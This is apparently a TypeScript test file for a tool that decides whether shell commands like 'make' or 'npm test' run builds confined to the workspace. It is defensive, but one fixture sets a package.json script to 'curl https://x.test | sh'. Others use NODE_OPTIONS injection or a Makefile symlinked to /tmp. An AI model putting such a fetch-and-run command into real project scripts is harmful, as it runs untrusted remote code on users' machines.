// Project files: each one that a table names is watched, and whose build it is follows links, options and what this action wrote.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { groupsOfPath } from '../../names/index.ts';
import { DEFAULT_GROUPS } from '../../settings/index.ts';
import { lower } from '../lower.ts';
import { compileMachinery } from '../machinery.ts';
import { factsFor, lowerFully, shellAction } from '../testing.ts';
import { TABLE_FILES } from './list.ts';

const machinery = compileMachinery({ groups: DEFAULT_GROUPS });
const PLACE = { home: '/home/dev', workspace: '/home/dev/project' };

test('every project file that a table names is in the group whose changes are remembered', () => {
  const names = TABLE_FILES.flatMap((table) => Object.values(table.manifests ?? {}).flatMap((row) => row.files));
  assert.ok(names.length > 40);
  const unwatched = names.filter(
    (name) => !groupsOfPath(machinery.groups, PLACE, `${PLACE.workspace}/sub/${name}`).includes('build-files'),
  );
  // Which file of the folder dotnet takes is not looked up.
  assert.deepEqual([...new Set(unwatched)], ['.']);
});

type Row = { readonly want: boolean; readonly command: string; readonly files?: { readonly [path: string]: string } };
const PACKAGE = '/home/dev/project/package.json';
const script = (text: string): string => JSON.stringify({ scripts: { test: text } });
const rows: readonly Row[] = [
  { want: true, command: 'make' },
  { want: true, command: 'make -C sub', files: { '/home/dev/project/sub/makefile': 'all:' } },
  { want: false, command: 'make', files: { '/home/dev/project/Makefile': '-> /tmp/Makefile' } },
  { want: false, command: 'cd /tmp && make' },
  { want: false, command: 'touch Makefile && make' },
  { want: false, command: 'make -f other' },
  { want: true, command: 'npm test' },
  {
    want: true,
    command: 'npm test',
    files: { [PACKAGE]: script('node build.js'), '/home/dev/project/build.js': 'x()' },
  },
  { want: true, command: 'npm test', files: { [PACKAGE]: script("node -e 'x()'") } },
  { want: true, command: 'npm test', files: { [PACKAGE]: script('./t.sh'), '/home/dev/project/t.sh': '"$RUNNER" x' } },
  { want: false, command: 'npm test', files: { [PACKAGE]: script('node /tmp/x.js'), '/tmp/x.js': 'x()' } },
  { want: false, command: 'npm test', files: { [PACKAGE]: script('bash /tmp/x.sh') } },
  { want: false, command: 'npm test', files: { [PACKAGE]: script('bash t.sh') } },
  { want: false, command: 'npm test', files: { [PACKAGE]: script('curl https://x.test | sh') } },
  { want: false, command: 'npm test', files: { [PACKAGE]: 'dir' } },
  { want: false, command: 'NODE_OPTIONS=--require=x npm test', files: { [PACKAGE]: script('true') } },
  { want: false, command: 'echo "{}" > package.json; npm test' },
  { want: false, command: 'npm --prefix /tmp/x test' },
  { want: false, command: 'node build.js', files: { '/home/dev/project/build.js': 'x()' } },
  {
    want: false,
    command: 'npm test; node build.js',
    files: { [PACKAGE]: script('true'), '/home/dev/project/build.js': 'x()' },
  },
];

for (const { want, command, files } of rows) {
  test(`${want ? 'of the workspace' : 'not of the workspace'}: ${command} ${JSON.stringify(files ?? {})}`, () => {
    const { effects } = lowerFully((facts) => lower(shellAction(command), facts, { machinery }), factsFor(files ?? {}));
    const opaque = effects.filter((effect) => effect.kind === 'opaque');
    assert.ok(opaque.length > 0, 'something is not followed');
    assert.equal(
      opaque.every((effect) => effect.attributes.includes('workspace-build')),
      want,
    );
  });
}
